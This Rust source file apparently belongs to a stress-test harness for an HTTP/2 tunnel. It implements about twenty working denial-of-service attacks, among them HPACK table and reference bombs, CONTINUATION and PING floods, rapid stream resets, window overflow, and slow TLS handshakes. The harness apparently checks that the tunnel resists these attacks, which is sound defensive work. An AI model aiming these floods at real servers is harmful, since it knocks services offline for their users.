//! What an authenticated peer can do to a tunnel that serves it. Each attack goes on until the tunnel ends it, and begins again.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::frames::{self, CONTINUATION, DATA, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, SETTINGS};
use super::peer::{connect, End, Peer, Target};
use super::{ECHO, HELD, SOURCE};

/// What is written at a time.
const CHUNK: usize = 64 << 10;
const WINDOW_MAX: u32 = (1 << 31) - 1;
/// Streams of one tunnel; the tunnel says that it takes 1,000.
const STREAMS: u32 = 250;
/// Bytes of a header block that a tunnel takes.
const BLOCK: usize = 30_000;
/// How long something is held that costs the other side memory.
const HOLD: Duration = Duration::from_secs(5);

pub struct Attack {
    pub name: &'static str,
    pub about: &'static str,
    pub threads: usize,
    pub once: fn(&Target) -> Result<(), End>,
}

pub const ATTACKS: &[Attack] = &[
    Attack { name: "huffman", about: "streams whose headers are 30 kB of Huffman code", threads: 1, once: huffman },
    Attack { name: "trailers", about: "more and more headers on one stream", threads: 1, once: trailers },
    Attack { name: "table", about: "a dynamic table of 256 MB, filled", threads: 1, once: table },
    Attack { name: "bomb", about: "headers that refer 30,000 times to 4 kB", threads: 1, once: bomb },
    Attack { name: "continuation", about: "CONTINUATION frames of a byte", threads: 1, once: continuation },
    Attack { name: "ping", about: "PINGs, whose answers are read", threads: 1, once: pings },
    Attack {
        name: "ping-unread",
        about: "PINGs, whose answers are not read, in 16 tunnels",
        threads: 16,
        once: pings_unread,
    },
    Attack { name: "settings", about: "SETTINGS that change the window of 250 streams", threads: 1, once: settings },
    Attack { name: "rapid-reset", about: "streams that are reset at once", threads: 1, once: rapid_reset },
    Attack { name: "authority", about: "streams to authorities of 48 kB", threads: 1, once: authority },
    Attack { name: "small-windows", about: "downloads by a byte at a time", threads: 1, once: small_windows },
    Attack { name: "overflow", about: "windows beyond 2^31", threads: 1, once: overflow },
    Attack { name: "downloads", about: "250 unread downloads in each of 8 tunnels", threads: 8, once: downloads },
    Attack { name: "uploads", about: "250 unread uploads in each of 8 tunnels", threads: 8, once: uploads },
    Attack { name: "tunnels", about: "2,000 tunnels that do nothing", threads: 1, once: tunnels },
    Attack { name: "handshakes", about: "tunnels that are closed at once", threads: 16, once: handshakes },
    Attack { name: "key-updates", about: "a new TLS key for each PING", threads: 1, once: key_updates },
    Attack { name: "slow", about: "500 handshakes, a byte each half second", threads: 1, once: slow },
    Attack { name: "garbage", about: "noise instead of TLS, and of records", threads: 1, once: garbage },
    Attack { name: "empty-data", about: "DATA frames that hold nothing", threads: 1, once: empty_data },
    Attack { name: "unknown", about: "frames that are ignored", threads: 1, once: unknown },
];

fn repeated(size: usize, mut put: impl FnMut(&mut Vec<u8>)) -> Vec<u8> {
    let mut chunk = Vec::with_capacity(size + 64);
    while chunk.len() < size {
        put(&mut chunk);
    }
    chunk
}

/// Sends what `make` makes, again and again.
fn flood(peer: &mut Peer, mut make: impl FnMut() -> Vec<u8>) -> Result<(), End> {
    loop {
        peer.send(&make())?;
    }
}

/// The numbers of a client's streams.
fn numbers() -> impl FnMut() -> u32 {
    let mut next = 1;
    move || {
        let stream = next;
        next += 2;
        stream
    }
}

/// Streams to a port of the pod's applications, answered.
fn open_streams(peer: &mut Peer, authority: &str, count: u32) -> Result<(), End> {
    let mut request = Vec::new();
    (0..count).for_each(|n| frames::connect(&mut request, 2 * n + 1, authority, &[]));
    peer.send(&request)?;
    peer.hear_until(|heard| {
        heard.statuses.values().sum::<u64>() + heard.resets.values().sum::<u64>() >= u64::from(count)
    })
}

fn huffman(target: &Target) -> Result<(), End> {
    streams_with(target, &target.authority(ECHO), &frames::huffman_field(BLOCK))
}

fn rapid_reset(target: &Target) -> Result<(), End> {
    streams_with(target, &target.authority(ECHO), &[])
}

/// Streams with `fields` in their requests, reset at once.
fn streams_with(target: &Target, authority: &str, fields: &[u8]) -> Result<(), End> {
    let mut peer = Peer::open(target, &[])?;
    let mut next = numbers();
    flood(&mut peer, || {
        repeated(CHUNK, |chunk| {
            let stream = next();
            frames::connect(chunk, stream, authority, fields);
            frames::reset(chunk, stream, frames::CANCEL);
        })
    })
}

fn trailers(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[])?;
    open_streams(&mut peer, &target.authority(ECHO), 1)?;
    let field = frames::huffman_field(BLOCK);
    flood(&mut peer, || repeated(CHUNK, |chunk| frames::frame(chunk, HEADERS, frames::END_HEADERS, 1, &field)))
}

fn table(target: &Target) -> Result<(), End> {
    let mut fields = vec![0x40, 1, b'x']; // a literal that is put into the table
    frames::text(&mut fields, &[b'y'; BLOCK]);
    let grow = [0x3f, 0xe1, 0xff, 0xff, 0x7f]; // to 256 MB (RFC 7541 section 6.3)
    let mut peer = Peer::open(target, &[])?;
    let mut next = numbers();
    flood(&mut peer, || {
        repeated(CHUNK, |chunk| {
            let stream = next();
            let block = [&grow[..], &frames::block(&target.authority(ECHO)), &fields].concat();
            frames::frame(chunk, HEADERS, frames::END_HEADERS, stream, &block);
            frames::reset(chunk, stream, frames::CANCEL);
        })
    })
}

fn bomb(target: &Target) -> Result<(), End> {
    let mut first = vec![0x40, 1, b'x'];
    frames::text(&mut first, &[b'y'; 4000]);
    let mut peer = Peer::open(target, &[])?;
    let mut request = Vec::new();
    frames::connect(&mut request, 1, &target.authority(ECHO), &first);
    peer.send(&request)?;
    let (references, mut next) = ([0xbe; BLOCK], numbers());
    next();
    flood(&mut peer, || repeated(CHUNK, |chunk| frames::connect(chunk, next(), &target.authority(ECHO), &references)))
}

fn continuation(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[])?;
    let mut first = Vec::new();
    frames::frame(&mut first, HEADERS, 0, 1, &[0x82]);
    peer.send(&first)?;
    flood(&mut peer, || repeated(CHUNK, |chunk| frames::frame(chunk, CONTINUATION, 0, 1, &[0x82])))
}

fn ping_chunk() -> Vec<u8> {
    repeated(CHUNK, |chunk| frames::frame(chunk, PING, 0, 0, b"attacked"))
}

fn pings(target: &Target) -> Result<(), End> {
    let chunk = ping_chunk();
    flood(&mut Peer::open(target, &[])?, || chunk.clone())
}

fn pings_unread(target: &Target) -> Result<(), End> {
    let chunk = ping_chunk();
    let mut peer = Peer::open(target, &[])?;
    peer.deaf = true;
    flood(&mut peer, || chunk.clone())
}

fn settings(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[])?;
    open_streams(&mut peer, &target.authority(ECHO), STREAMS)?;
    let mut window = 1000;
    flood(&mut peer, || {
        repeated(CHUNK, |chunk| {
            window ^= 1;
            frames::settings(chunk, &[(INITIAL_WINDOW_SIZE, window)]);
        })
    })
}

/// Authorities that are no host and port, as long as a block can make them.
fn authority(target: &Target) -> Result<(), End> {
    let mut block = vec![2];
    frames::text(&mut block, b"CONNECT");
    block.push(1);
    frames::length(&mut block, 0x80, BLOCK);
    block.resize(block.len() + BLOCK, 0);
    let mut peer = Peer::open(target, &[])?;
    let mut next = numbers();
    flood(&mut peer, || repeated(CHUNK, |chunk| frames::frame(chunk, HEADERS, frames::END_HEADERS, next(), &block)))
}

fn small_windows(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[(INITIAL_WINDOW_SIZE, 0)])?;
    open_streams(&mut peer, &target.authority(SOURCE), STREAMS)?;
    let chunk = repeated(CHUNK, |chunk| {
        for stream in 0..STREAMS {
            frames::window(chunk, 2 * stream + 1, 1);
        }
    });
    flood(&mut peer, || chunk.clone())
}

fn overflow(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[])?;
    let mut more = Vec::new();
    frames::window(&mut more, 0, WINDOW_MAX);
    peer.send(&more)?;
    peer.hear(HOLD)
}

fn downloads(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[(INITIAL_WINDOW_SIZE, WINDOW_MAX)])?;
    peer.deaf = true;
    let mut request = Vec::new();
    (0..STREAMS).for_each(|n| frames::connect(&mut request, 2 * n + 1, &target.authority(SOURCE), &[]));
    peer.send(&request)?;
    peer.hear(HOLD)
}

/// As much as windows allow on each stream, for an application that reads nothing.
fn uploads(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[])?;
    open_streams(&mut peer, &target.authority(HELD), STREAMS)?;
    let zeros = [0; 16_000];
    let rounds = peer.heard.window.min(4 << 20) as usize / zeros.len();
    for _ in 0..rounds {
        for stream in 0..STREAMS {
            let mut data = Vec::with_capacity(zeros.len() + frames::HEADER);
            frames::frame(&mut data, DATA, 0, 2 * stream + 1, &zeros);
            peer.send(&data)?;
        }
    }
    peer.hear(HOLD)
}

fn tunnels(target: &Target) -> Result<(), End> {
    let mut peers = Vec::new();
    for _ in 0..2000 {
        match Peer::open(target, &[]) {
            Ok(peer) => peers.push(peer),
            Err(End::Over) => break,
            Err(end) => target.tally.count(&format!("refused {}", end.name())),
        }
    }
    let until = Instant::now() + HOLD;
    while Instant::now() < until && !target.is_over() {
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(())
}

fn handshakes(target: &Target) -> Result<(), End> {
    Peer::shake(target).map(drop)
}

fn key_updates(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[])?;
    let mut ping = Vec::new();
    frames::frame(&mut ping, PING, 0, 0, b"attacked");
    loop {
        target.budget.take(1000 * (ping.len() + 60));
        for _ in 0..1000 {
            peer.send_with_new_key(&ping)?;
        }
        peer.flush()?;
        if target.is_over() {
            return Err(End::Over);
        }
    }
}

fn slow(target: &Target) -> Result<(), End> {
    let hello = [22, 3, 1, 1, 0, 1, 0, 0, 252, 3, 3]; // a record of 256 bytes, of which the rest never comes
    let mut socks = (0..500).map(|_| connect(target.addr)).collect::<Result<Vec<_>, _>>()?;
    for at in 0.. {
        let byte = [hello.get(at).copied().unwrap_or(7)];
        let before = socks.len();
        socks.retain_mut(|sock| sock.write_all(&byte).is_ok() && !is_closed(sock));
        target.tally.add("refused slow", (before - socks.len()) as u64);
        if socks.is_empty() {
            break;
        }
        if target.is_over() {
            return Err(End::Over);
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    Ok(())
}

fn is_closed(sock: &mut TcpStream) -> bool {
    let _ = sock.set_nonblocking(true);
    let closed = match sock.read(&mut [0; 64]) {
        Ok(_) => true,
        Err(error) => error.kind() != ErrorKind::WouldBlock,
    };
    let _ = sock.set_nonblocking(false);
    closed
}

fn garbage(target: &Target) -> Result<(), End> {
    let mut noise = [0_u8; 16_384];
    for (at, byte) in noise.iter_mut().enumerate() {
        *byte = (at as u32).wrapping_mul(2_654_435_761).to_be_bytes()[0];
    }
    let mut plain = connect(target.addr)?;
    target.budget.take(noise.len());
    let _ = plain.write_all(&noise);
    target.tally.count("refused garbage");
    let mut peer = Peer::open(target, &[])?;
    noise[..5].copy_from_slice(&[23, 3, 3, 0x20, 0]);
    peer.send_raw(&noise)?;
    peer.hear(HOLD)
}

fn empty_data(target: &Target) -> Result<(), End> {
    let mut peer = Peer::open(target, &[])?;
    open_streams(&mut peer, &target.authority(ECHO), 1)?;
    let chunk = repeated(CHUNK, |chunk| frames::frame(chunk, DATA, 0, 1, &[]));
    flood(&mut peer, || chunk.clone())
}

fn unknown(target: &Target) -> Result<(), End> {
    let chunk = repeated(CHUNK, |chunk| {
        frames::frame(chunk, PRIORITY, 0, 1, &[0, 0, 0, 3, 1]);
        frames::frame(chunk, 0x77, 0, 0, &[]);
        frames::frame(chunk, SETTINGS, frames::ACK, 0, &[]);
    });
    flood(&mut Peer::open(target, &[])?, || chunk.clone())
}
